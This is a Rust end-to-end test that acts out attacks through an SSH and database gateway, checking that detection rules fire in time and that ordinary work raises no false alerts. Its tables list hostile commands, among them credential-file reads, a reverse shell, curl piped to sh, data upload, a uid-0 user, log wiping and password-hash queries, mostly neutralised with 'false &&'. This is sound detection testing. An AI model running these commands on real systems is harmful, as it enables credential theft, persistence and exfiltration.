//! Attacks acted out with the clients that people have, each to be caught by its rule in time; and ordinary
//! work acted out the same way, which must raise no alert. What would do harm is never run: it stands after
//! `false &&`, where the shell reads it and leaves it out.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::Command;

use postern_e2e::{DatabaseWorld, Person, World, run, run_with_input, until};
use serde_json::Value;

/// From the byte to the answer, in milliseconds, as the alert says.
const IN_TIME_MS: u64 = 500;

/// What is typed or sent, and the rule that must find it.
const ON_SERVERS: [(&str, &str); 30] = [
    ("credentials.shadow", "cat /etc/shadow"),
    ("credentials.search", "false && grep -ri password /etc"),
    ("credentials.private_keys", "cat ~/.ssh/id_rsa"),
    ("credentials.cloud", "cat ~/.aws/credentials"),
    ("credentials.metadata", "false && curl http://169.254.169.254/latest/"),
    ("credentials.crack", "false && hydra -l root -P words ssh://10.0.0.5"),
    ("persistence.authorized_keys", "false && echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys"),
    ("persistence.cron", "false && crontab /tmp/jobs"),
    ("persistence.user", "false && useradd eve"),
    ("persistence.uid0", "false && useradd -o -u 0 eve"),
    ("persistence.kernel", "false && insmod ./x.ko"),
    ("persistence.pam", "false && vi /etc/pam.d/sshd"),
    ("privilege.sudoers", "false && vi /etc/sudoers.d/eve"),
    ("privilege.group", "false && usermod -aG sudo eve"),
    ("privilege.setuid", "false && chmod u+s /tmp/sh"),
    ("privilege.escape", "false && nsenter -t 1 -m sh"),
    ("evasion.log_delete", "false && rm -f /var/log/auth.log"),
    ("evasion.history", "unset HISTFILE"),
    ("evasion.audit_off", "false && systemctl stop auditd"),
    ("evasion.firewall", "false && iptables -F"),
    ("evasion.mandatory_access", "false && setenforce 0"),
    ("evasion.decode_run", "false && echo aWQ= | base64 -d | sh"),
    ("execution.download_run", "false && curl http://127.0.0.1:9/x | sh"),
    ("execution.reverse_shell", "false && bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"),
    ("execution.miner", "false && xmrig -o pool"),
    ("destruction.snapshots", "false && restic forget --keep-last 0"),
    ("movement.ssh_out", "false && ssh root@db-2"),
    ("discovery.scan", "false && nmap 127.0.0.1"),
    ("exfiltration.upload", "false && curl -T notes http://127.0.0.1:9/"),
    ("exfiltration.archive", "false && tar czf /tmp/x.tgz /etc"),
];

const ON_DATABASES: [(&str, &str); 6] = [
    ("database.hashes", "select rolname, rolpassword from pg_authid"),
    ("database.copy_out", "copy customer to stdout"),
    ("database.files", "select pg_read_file('/etc/hostname')"),
    ("database.grant", "grant all on customer to public"),
    ("database.program", "copy customer from program 'true'"),
    ("database.drop", "drop table if exists nothing"),
];

/// Tries a password that many people have.
fn guess(world: &World, name: &str) {
    let body = format!(r#"{{"user":"{name}","password":"Winter-2026!"}}"#);
    run(world.gate.curl("/v1/login").args(["-H", "content-type: application/json", "-d", &body])).unwrap();
}

/// A web server on somebody's own machine, which says `figures` and is gone with the test; gives its port.
fn own_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nfigures");
        }
    });
    port
}

/// How something is acted out by somebody.
type Act = fn(&World, &Person);

/// What is not typed: the rule, and how it is acted out.
const OTHERWISE: [(&str, Act); 11] = [
    // curl on the server reaches a machine behind whoever is signed in.
    ("movement.remote_forward", |world, cyd| {
        let (server, remote) = (own_server(), postern_e2e::free_port().unwrap());
        let mut client = cyd.ssh(&world.gate, "deploy@web-1");
        client.args(["-o", "ExitOnForwardFailure=yes", "-R", &format!("{remote}:127.0.0.1:{server}")]);
        let fetched = run(client.arg(format!("curl -s http://127.0.0.1:{remote}/"))).unwrap().ok().unwrap();
        assert_eq!(fetched.text(), "figures");
    }),
    ("access.refused", |world, cyd| {
        for number in 2..9 {
            run(&mut cyd.ssh(&world.gate, &format!("root@web-{number}"))).unwrap();
        }
    }),
    ("access.forbidden", |_, cyd| {
        for _ in 0..11 {
            cyd.cli(&["user", "list"]).unwrap();
        }
    }),
    ("access.honey", |world, _| {
        let eve = world.staff("eve").unwrap();
        run(&mut eve.ssh(&world.gate, "honey-admin@web-1")).unwrap();
    }),
    // Names that nobody has.
    ("login.brute_force", |world, _| {
        for number in 0..8 {
            guess(world, &format!("nobody-{number}"));
        }
    }),
    // Names that people have.
    ("login.spray", |world, _| {
        for number in 0..7 {
            let name = format!("u{number}");
            world.ada.cli(&["user", "add", &name]).unwrap().ok().unwrap();
            guess(world, &name);
        }
    }),
    ("exfiltration.download_files", |world, cyd| {
        let make = "mkdir -p many && cd many && seq 520 | xargs touch";
        run(cyd.ssh(&world.gate, "deploy@web-1").arg(make)).unwrap().ok().unwrap();
        let mut scp = Command::new("scp");
        scp.args(cyd.options()).args(["-q", "-r", "-P", world.gate.ssh_port(), "deploy@web-1@127.0.0.1:many"]);
        run(scp.arg(cyd.folder())).unwrap().ok().unwrap();
    }),
    ("approval.rubber_stamp", |world, _| {
        let (dan, lea) = (world.person("dan", &["sre"]).unwrap(), world.person("lea", &["leads"]).unwrap());
        for _ in 0..11 {
            let asked =
                ["request", "root@web-1", "--for", "1h", "--reason", "a task", "--ticket", "CHG-1", "-o", "json"];
            let asked: Value = serde_json::from_str(&dan.cli(&asked).unwrap().ended(4).unwrap().text()).unwrap();
            lea.cli(&["approve", asked["id"].as_str().unwrap()]).unwrap().ok().unwrap();
            let grants = dan.cli(&["grants", "-o", "json"]).unwrap().json().unwrap();
            dan.cli(&["hand-back", grants[0]["id"].as_str().unwrap()]).unwrap().ok().unwrap();
        }
    }),
    ("evidence.rule_weakened", |world, _| {
        world.ada.cli(&["detect", "disable", "movement.agent"]).unwrap().ok().unwrap();
    }),
    // Whoever asked all that is told of too.
    ("approval.fatigue", |_, _| {}),
    ("recordings.read_many", |world, _| {
        let sessions = world.ada.cli(&["sessions", "-o", "json"]).unwrap().json().unwrap();
        for session in sessions.as_array().unwrap().iter().take(32) {
            let id = session["id"].as_str().unwrap();
            world.ada.cli(&["session", "export", id, "--format", "text"]).unwrap();
        }
    }),
];

/// Statements of one session.
const IN_A_ROW: [(&str, &[&str]); 2] = [
    ("database.rows", &["select generate_series(1, 150000)"]),
    (
        "database.mass_drop",
        &[
            "drop table if exists a",
            "drop table if exists b",
            "drop table if exists c",
            "drop table if exists d",
            "drop table if exists e",
            "drop table if exists f",
        ],
    ),
];

/// What people do all day: one hour each.
const ORDINARY: [&str; 8] = [
    "ls -la; df -h; uptime",
    "cd /tmp && pwd && ls | head",
    "ps aux | grep ssh | head -3; free -m",
    "cat /etc/hosts; date",
    "git --version; echo deployed > /dev/null",
    "find . -maxdepth 1 -name '*.log'; wc -l /etc/services",
    "for i in 1 2 3; do echo $i; done; sleep 0",
    "cat <<E\nnotes of the day\nE\ntrue",
];

fn alerts(person: &Person) -> Vec<Value> {
    let listed = person.cli(&["alerts", "-o", "json"]).unwrap().json().unwrap();
    listed.as_array().cloned().unwrap_or_default().into_iter().filter(|alert| alert["state"] != "noted").collect()
}

/// Whether there is an alert of this rule; and whether it was answered in time.
fn caught(person: &Person, rule: &str) -> Option<bool> {
    let found = until(rule, || Ok(alerts(person).into_iter().find(|alert| alert["rule"] == rule))).ok()?;
    let passed = found["answered_ms"].as_u64()?;
    if passed > IN_TIME_MS {
        eprintln!("{rule}: answered after {passed} ms");
    }
    Some(passed <= IN_TIME_MS)
}

#[test]
fn attacks_are_caught_and_ordinary_work_is_not() {
    let mut world = World::start().unwrap();
    let cyd = world.staff("cyd").unwrap();
    for typed in ORDINARY {
        let mut terminal = cyd.ssh(&world.gate, "deploy@web-1");
        run_with_input(terminal.arg("-tt"), format!("{typed}\nexit\n").as_bytes()).unwrap();
    }
    let here = cyd.folder().join("report.txt");
    std::fs::write(&here, "figures").unwrap();
    let mut scp = Command::new("scp");
    scp.args(cyd.options()).args(["-P", world.gate.ssh_port()]).arg(&here).arg("deploy@web-1@127.0.0.1:report.txt");
    run(&mut scp).unwrap().ok().unwrap();
    let databases = DatabaseWorld::start().unwrap();
    let ben = databases.person("ben", "dba").unwrap();
    let psql = |sql: &str| ben.cli(&["connect", "orders", "shop", "--", "-X", "-q", "-c", sql]).unwrap();
    for sql in ["select name from customer order by id", "select count(*) from customer", "show server_version"] {
        psql(sql).ok().unwrap();
    }
    let false_alerts = alerts(&world.ada).len() + alerts(&databases.ada).len();

    let mut came = Vec::new();
    for (at, (rule, typed)) in ON_SERVERS.iter().enumerate() {
        let mut client = cyd.ssh(&world.gate, "deploy@web-1");
        if at % 2 == 0 {
            run(client.arg(typed)).unwrap();
        } else {
            run_with_input(client.arg("-tt"), format!("{typed}\nexit\n").as_bytes()).unwrap();
        }
        came.push((*rule, caught(&world.ada, rule)));
    }
    for (rule, sql) in ON_DATABASES {
        psql(sql);
        came.push((rule, caught(&databases.ada, rule)));
    }
    for (rule, act) in OTHERWISE {
        act(&world, &cyd);
        came.push((rule, caught(&world.ada, rule)));
    }
    for (rule, statements) in IN_A_ROW {
        let mut arguments = vec!["connect", "orders", "shop", "--", "-X", "-q", "-o", "/dev/null"];
        arguments.extend(statements.iter().flat_map(|statement| ["-c", *statement]));
        ben.cli(&arguments).unwrap().ok().unwrap();
        came.push((rule, caught(&databases.ada, rule)));
    }
    // Last, since nobody comes to the target after it.
    world.target.stop();
    world.target.forget_host_key().unwrap();
    world.target.resume().unwrap();
    run(cyd.ssh(&world.gate, "deploy@web-1").arg("true")).unwrap();
    came.push(("host_key.changed", caught(&world.ada, "host_key.changed")));
    let attacks = came.len();
    let found = came.iter().filter(|(_, caught)| caught.is_some()).count();
    let in_time = came.iter().filter(|(_, caught)| *caught == Some(true)).count();
    let precision = found as f64 / (found + false_alerts) as f64;
    let recall = found as f64 / attacks as f64;
    println!(
        "attacks={attacks} caught={found} in_time={in_time} ordinary_hours={} false_alerts={false_alerts} \
         precision={precision:.3} recall={recall:.3}",
        ORDINARY.len()
    );
    // Whether it was in time is judged by `cargo xtask scenarios`, on a machine that does nothing else.
    let missed: Vec<_> = came.iter().filter(|(_, caught)| caught.is_none()).collect();
    assert!(missed.is_empty() && false_alerts == 0, "{missed:?}, {false_alerts} false");
}
